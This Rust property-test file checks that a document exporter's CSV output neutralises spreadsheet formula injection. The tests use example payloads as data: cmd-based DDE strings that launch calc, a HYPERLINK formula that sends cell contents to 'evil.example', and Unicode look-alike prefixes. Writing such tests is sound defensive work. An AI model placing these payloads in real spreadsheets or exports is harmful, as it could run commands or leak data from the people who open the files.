//! CSV that reads back, and that no spreadsheet runs.

#![expect(clippy::unwrap_used, reason = "a test without its file fails")]

use csv::ReaderBuilder;
use proptest::prelude::*;
use sabir_document::{Block, Document, Inline, Table};
use sabir_export::{Artifact, Format, export};

use crate::generate::{any_artifact, artifact, table, text};

/// The rows, which must all be equally long.
fn rows(artifact: &Artifact) -> Vec<Vec<String>> {
    let bytes = export(artifact, Format::Csv).unwrap();
    let mut reader = ReaderBuilder::new().has_headers(false).from_reader(&bytes[..]);
    reader.records().map(|row| row.unwrap().iter().map(str::to_owned).collect()).collect()
}

fn one_cell(text: &str) -> String {
    let cell = |text: &str| vec![Inline::text(text)];
    let table = Table { header: vec![cell("h")], rows: vec![vec![cell(text)]], align: vec![] };
    let document = Document { children: vec![Block::Table(table)] };
    let artifact = Artifact { document, references: vec![], ..artifact("T", "") };
    rows(&artifact)[1][0].clone()
}

/// LC-O11.
#[test]
fn formulas_are_defused() {
    for formula in [
        "=1+1",
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1)",
        "＝1+1",
        "＋1",
        "－1",
        "＠x",
        "\u{FE66}1+1",
        "\u{FE62}1",
        "\u{FE63}1",
        "\u{FE6B}x",
        "−1",
        "\"=1+1",
        "'=1+1",
        "“=1+1",
        "\u{200b} =1+1",
        "\u{200b}=1+1",
        "\u{feff}@x",
        "-",
        "--5",
        "-5-",
        "+49 30 123",
        "-1e",
        "- none",
        "=HYPERLINK(\"https://evil.example/?\"&A1)",
    ] {
        assert_eq!(one_cell(formula), format!("'{formula}"), "{formula:?}");
    }
}

/// LC-O11: a program that separates by semicolons or tabs, or ends a cell with its line, sees no
/// formula either.
#[test]
fn formulas_in_the_middle_of_a_cell_are_defused() {
    for (cell, defused) in [
        ("y;=1+1", "y;'=1+1"),
        ("y; =1+1", "y;' =1+1"),
        ("y;\"=1+1", "y;'\"=1+1"),
        ("y;;=1+1;z", "y;;'=1+1;z"),
        ("=1;=2", "'=1;'=2"),
        ("y;@SUM(A1);-5", "y;'@SUM(A1);-5"),
        ("y;-1+1", "y;'-1+1"),
        ("a;b;c", "a;b;c"),
        ("1;-5;+6.5", "1;-5;+6.5"),
    ] {
        assert_eq!(one_cell(cell), defused, "{cell:?}");
    }
    let code = artifact("T", "```\nx\n=1+1\ny\t=2\n```\n");
    let rows = rows(&code);
    assert_eq!(rows[1][2], "x\n'=1+1\ny\t'=2", "{rows:?}");
}

/// LC-O11: what a source is quoted with is no formula.
#[test]
fn formulas_in_references_are_defused() {
    let mut artifact = artifact("T", "| a |\n|---|\n| x [1] |\n");
    artifact.references[0].quote = "y;=1+1".to_owned();
    artifact.references[0].title = ";@x".to_owned();
    let cell = rows(&artifact)[1][1].clone();
    assert!(cell.contains("y;'=1+1") && cell.contains(";'@x"), "{cell}");
}

/// LC-O11.
#[test]
fn numbers_and_words_stay_what_they_are() {
    for cell in [
        "-5",
        "+5",
        "-5.25",
        "-1,234.50",
        "-.5",
        "+1e5",
        "-1.5E-7",
        "-12%",
        "5",
        "a=b",
        "a - b",
        "(=1)",
        "x@y.z",
        "it's",
        "1-2",
        "100 %",
        "",
    ] {
        if !cell.is_empty() {
            assert_eq!(one_cell(cell), cell);
        }
    }
}

/// LC-O8.
#[test]
fn rows_end_as_the_standard_says() {
    let markdown = "| a | b |\n|---|---|\n| x, \"y\" | z |\n";
    let mut artifact = artifact("T", markdown);
    artifact.references.clear();
    let bytes = export(&artifact, Format::Csv).unwrap();
    assert_eq!(String::from_utf8(bytes).unwrap(), "\"a\",\"b\"\r\n\"x, \"\"y\"\"\",\"z\"\r\n");
}

/// LC-O10.
#[test]
fn long_references_do_not_grow_with_the_rows_that_cite_them() {
    let row = "| [1] |\n".repeat(1_000);
    let mut artifact = artifact("T", &format!("| a |\n|---|\n{row}"));
    artifact.references[0].quote = "long ".repeat(100_000);
    artifact.references[0].title = "long ".repeat(100_000);
    artifact.references[0].url = Some(format!("https://a.b/{}", "x".repeat(100_000)));
    let bytes = export(&artifact, Format::Csv).unwrap();
    assert!(bytes.len() < 600_000, "{}", bytes.len());
    assert!(rows(&artifact)[1][1].starts_with("[1] verified: “long long"));
}

/// What a cell of words without marks reads back as, but for apostrophes.
fn expected(inlines: &[Inline]) -> String {
    let [Inline::Text { text }] = inlines else { return String::new() };
    text.chars().filter(|c| !c.is_control() && *c != '\'').collect()
}

proptest! {
    /// LC-O8: whatever it holds, it reads back as rows of one length.
    #[test]
    fn every_file_reads_back(artifact in any_artifact()) {
        rows(&artifact);
    }

    /// LC-O8, LC-O9: the cells of a table come back.
    #[test]
    fn tables_read_back(cells in prop::collection::vec(prop::collection::vec(text(), 3), 1..5)) {
        let cell = |text: &String| vec![Inline::text(format!("x{text}"))];
        let rows_in: Vec<Vec<_>> = cells.iter().map(|row| row.iter().map(cell).collect()).collect();
        let header = rows_in[0].clone();
        let table = Table { header, rows: rows_in[1..].to_vec(), align: vec![] };
        let document = Document { children: vec![Block::Table(table)] }.normalised();
        let artifact = Artifact { document, references: vec![], ..artifact("T", "") };
        let Block::Table(table) = &artifact.document.children[0] else { panic!("no table") };
        let wanted: Vec<Vec<String>> = std::iter::once(&table.header)
            .chain(&table.rows)
            .map(|row| row.iter().map(|cell| expected(cell)).collect())
            .collect();
        let mut found = rows(&artifact);
        found.iter_mut().flatten().for_each(|cell| cell.retain(|c| c != '\''));
        prop_assert_eq!(found, wanted);
    }

    /// LC-O11: no cell of any file begins like a formula, unless it is a number.
    #[test]
    fn no_cell_is_a_formula(table in table()) {
        let document = Document { children: vec![Block::Table(table)] };
        let artifact = Artifact { document, ..artifact("T", "") };
        for cell in rows(&artifact).concat() {
            let is_number = cell.replace([',', '%'], "").parse::<f64>().is_ok();
            for part in cell.split([';', '\t', '\n']) {
                let is_number = is_number || part.replace([',', '%'], "").parse::<f64>().is_ok();
                let start = part.trim_start_matches(|c: char| c.is_whitespace() || c == '"');
                prop_assert!(!start.starts_with(['=', '+', '-', '@']) || is_number, "{cell:?}");
            }
        }
    }
}
